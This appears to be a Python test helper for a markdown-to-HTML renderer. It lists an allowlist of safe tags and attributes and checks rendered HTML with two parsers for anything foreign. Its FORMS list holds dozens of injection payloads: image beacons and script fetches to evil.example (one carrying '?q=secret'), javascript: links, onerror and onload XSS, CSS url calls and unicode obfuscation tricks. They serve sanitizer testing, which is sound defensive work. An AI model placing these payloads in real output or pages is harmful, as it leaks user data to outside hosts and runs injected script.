"""Two parsers that say what is in a piece of HTML, independent of the code that wrote it."""

from __future__ import annotations

from html.parser import HTMLParser

from bs4 import BeautifulSoup

HARMLESS = {
    *("p", "h4", "ul", "ol", "li", "em", "strong", "blockquote", "pre", "code", "br", "sup"),
    *("table", "thead", "tbody", "tr", "th", "td", "div", "span", "mark", "b", "i"),
    *("details", "summary"),
}
ATTRIBUTES = {"class", "title", "role", "aria-label", "aria-live", "aria-hidden", "aria-level"}

FORMS = [
    "![x](http://evil.example/?q=secret)",
    "![x](//evil.example/p.png)",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    '![x](http://evil.example "title")',
    "![x][ref]\n\n[ref]: http://evil.example/p.png",
    "![ref]\n\n[ref]: http://evil.example/p.png",
    "![][ref]\n\n[ref]: <http://evil.example/p.png> 'title'",
    "[click](http://evil.example)",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](&#106;avascript:alert(1))",
    "[click](data:text/html,<script>alert(1)</script>)",
    "[click](vbscript:x)",
    "[click][ref]\n\n[ref]: http://evil.example",
    "[click][]\n\n[click]: http://evil.example",
    "[1]: http://evil.example\n\nSee [1].",
    "[^1]\n\n[^1]: http://evil.example",
    "[a\nb](http://evil.example)",
    "[**bold**](http://evil.example)",
    "[![x](http://evil.example/p.png)](http://evil.example)",
    "<http://evil.example>",
    "<mailto:a@evil.example>",
    "<javascript:alert(1)>",
    "http://evil.example/raw",
    "www.evil.example",
    "a@evil.example",
    "ftp://evil.example",
    '<img src="http://evil.example/p.png">',
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=//evil.example/p.png>",
    "<img\nsrc=http://evil.example/p.png\n>",
    '<a href="http://evil.example">x</a>',
    '<a href="javascript:alert(1)">x</a>',
    "<script>fetch('http://evil.example')</script>",
    "<script src=//evil.example></script>",
    "<iframe src=http://evil.example></iframe>",
    "<svg onload=alert(1)>",
    "<svg><image href=http://evil.example/p.png /></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<link rel=stylesheet href=http://evil.example/s.css>",
    "<style>@import 'http://evil.example/s.css';</style>",
    "<style>body{background:url(http://evil.example)}</style>",
    '<div style="background:url(http://evil.example)">x</div>',
    "<base href=http://evil.example>",
    '<meta http-equiv="refresh" content="0;url=http://evil.example">',
    "<form action=http://evil.example><button>x</button></form>",
    "<input type=image src=http://evil.example/p.png>",
    "<video src=http://evil.example/v></video>",
    "<audio src=http://evil.example/a></audio>",
    "<object data=http://evil.example></object>",
    "<embed src=http://evil.example>",
    "<picture><source srcset=http://evil.example/p.png></picture>",
    "<table background=http://evil.example><tr><td>x</td></tr></table>",
    "<math><mtext><img src=x onerror=alert(1)></mtext></math>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x>]]>",
    "<?php <img src=x> ?>",
    "<details ontoggle=alert(1) open>x</details>",
    "> ![x](http://evil.example/p.png)",
    "- [click](http://evil.example)",
    "1. <img src=http://evil.example/p.png>",
    "| a |\n| - |\n| ![x](http://evil.example/p.png) |",
    "# [click](http://evil.example)",
    "`` ` `` <img src=x> ``",
    "```\n</code></pre><img src=x>\n```",
    "    </code></pre><img src=http://evil.example>",
    "```js<img src=x>\nx\n```",
    "*<img src=x>*",
    "&lt;img src=x&gt; &#60;img src=x&#62;",
    "\\<img src=x>",
    "[1](http://evil.example)[2]",
    '[1]"><img src=x>',
    "$\\href{http://evil.example}{x}$",
    ":material/link: :red[x] :link: ::name{#id}",
    "\u202e<img src=x>\u202c",
    "<\u200bimg src=x>",
    "<i\x00mg src=x>",
    "<\U000e0069img src=x>",
]
"""What a hostile answer may hold to make a page contact somebody."""


def foreign_nodes(html: str) -> list[str]:
    """Name every tag and attribute that our pages never use, as two parsers see them."""
    reader = _Reader()
    reader.feed(html)
    reader.close()
    soup = BeautifulSoup(html, "lxml")
    seen = [(tag.name, set(tag.attrs)) for tag in soup.find_all(True)]
    both = [*reader.seen, *((name, held) for name, held in seen if name not in ("html", "body"))]
    return [
        f"{name}{sorted(held - ATTRIBUTES)}"
        for name, held in both
        if name not in HARMLESS or held - ATTRIBUTES
    ]


def shown_text(html: str) -> str:
    """Return the text a reader sees."""
    return BeautifulSoup(html, "lxml").get_text()


class _Reader(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.seen: list[tuple[str, set[str]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.seen.append((tag, {name for name, _ in attrs}))

    def handle_comment(self, data: str) -> None:
        self.seen.append(("comment", set()))

    def handle_decl(self, decl: str) -> None:
        self.seen.append(("declaration", set()))

    def handle_pi(self, data: str) -> None:
        self.seen.append(("instruction", set()))
